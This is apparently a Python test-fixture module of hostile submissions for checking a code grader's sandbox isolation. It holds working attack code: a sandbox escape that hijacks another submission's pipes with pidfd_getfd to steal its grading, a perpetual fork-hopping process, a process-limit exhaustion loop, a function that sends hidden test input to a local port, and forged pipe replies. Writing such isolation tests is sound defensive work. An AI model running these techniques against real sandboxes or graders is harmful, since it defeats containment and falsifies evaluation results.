"""Hostile submissions that attack the sandbox itself (tests/test_isolation.py grades them).

Each is Python code appended to, or inserted into, the reference solution, so that the
submission is otherwise correct. Every process they start is named NAME (/proc/PID/comm)
or carries MARKER in its environment, so that a test can find any that survive.
"""
from __future__ import annotations

MARKER = "GRADER_TEST_ATTACK"
NAME = "grader-attack"
_NAME_IT = f"__import__('ctypes').CDLL(None).prctl(15, {NAME.encode()!r})  # PR_SET_NAME"

# Left by the attacker of a batch: at import, a process that leaves the sandbox (setsid),
# forks and exits every 2 ms for 0.15 s (to outrun a one-pass reaping of orphans), then
# waits for the next sandbox's child process, stops it, takes its request and response
# pipes with pidfd_getfd and answers in its place with a copy of the attacker's own
# (correct) staging folder: the victim would score what the attacker scores.
TAKEOVER = f'''
import os as _os
if not _os.environ.get({MARKER!r}):
    import ctypes as _ctypes, json as _json, shutil as _shutil, signal as _signal, sys as _sys, tempfile as _tempfile
    import time as _time

    def _takeover():
        staging = _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))
        copy = _tempfile.mkdtemp(prefix="attacker-", dir="/tmp")
        _shutil.copytree(staging, _os.path.join(copy, "staging"))
        own = _os.getpid()
        if _os.fork():
            return
        _os.environ[{MARKER!r}] = "1"
        {_NAME_IT}
        _os.setsid()
        end = _time.time() + 0.15
        while _time.time() < end:
            if _os.fork():
                _os._exit(0)
            _time.sleep(0.002)
        libc = _ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = _ctypes.c_long
        deadline = _time.time() + 120
        while _time.time() < deadline:
            for entry in _os.listdir("/proc"):
                if not entry.isdigit() or int(entry) in (own, _os.getpid()):
                    continue
                try:
                    argv = open(f"/proc/{{entry}}/cmdline", "rb").read().split(b"\\0")
                except OSError:
                    continue
                index = next((i for i, a in enumerate(argv) if a.endswith(b"runtime/child.py")), None)
                if index is None or len(argv) < index + 4:
                    continue
                try:
                    settings = _json.loads(argv[index + 3])
                    if settings["staging"] == staging:
                        continue
                    victim = int(entry)
                    _os.kill(victim, _signal.SIGSTOP)
                    pidfd = libc.syscall(434, victim, 0)  # pidfd_open
                    request = libc.syscall(438, pidfd, int(argv[index + 1]), 0)  # pidfd_getfd
                    response = libc.syscall(438, pidfd, int(argv[index + 2]), 0)
                    if min(pidfd, request, response) < 0:
                        continue
                except (OSError, ValueError, KeyError):
                    continue
                settings.update(staging=_os.path.join(copy, "staging"), cwd=copy, hidden=[])
                _os.execv(_sys.executable, [_sys.executable, "-I", "-B",
                                            _os.path.join(copy, "staging", "runtime", "child.py"),
                                            str(request), str(response), _json.dumps(settings)])
            _time.sleep(0.005)
        _os._exit(0)

    _takeover()
'''

# At import: a process that leaves the sandbox and forks and exits every 2 ms, forever.
HOPPER = f'''
import os as _os
if _os.fork() == 0:
    {_NAME_IT}
    _os.setsid()
    import time as _time
    while True:
        if _os.fork():
            _os._exit(0)
        _time.sleep(0.002)
'''

# At import: processes until the sandbox's process limit refuses more (they sleep).
FORK_TO_THE_LIMIT = f'''
import subprocess as _subprocess
try:
    _subprocess.run(["/bin/sh", "-c", "while /bin/true; do /bin/sleep 1000 & done"], env={{{MARKER!r}: "1"}},
                    stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL, timeout=50)
except _subprocess.TimeoutExpired:
    pass
'''


def connect_to(port: int) -> str:
    """discounted_return sends its input to 127.0.0.1:port and returns what connect said."""
    return f'''
def discounted_return(rewards, gamma):
    import socket
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=3) as connection:
            connection.sendall(repr(list(rewards)).encode())
        outcome = "connected and sent the hidden input"
    except OSError as exc:
        outcome = f"{{type(exc).__name__}}: {{exc}}"
    raise RuntimeError(outcome)
'''


def raw_reply(payload: str, then_return: bool = False) -> str:
    """discounted_return writes the bytes `payload` builds (a Python expression using
    `struct`, `json` and `b`) straight into its response pipe, then sleeps (or returns)."""
    return f'''
def discounted_return(rewards, gamma):
    import json, struct, sys, os, time
    b = bytes
    data = {payload}
    fd = int(sys.argv[2])
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view):]
    if not {then_return!r}:
        time.sleep(60)
    return rewards
'''
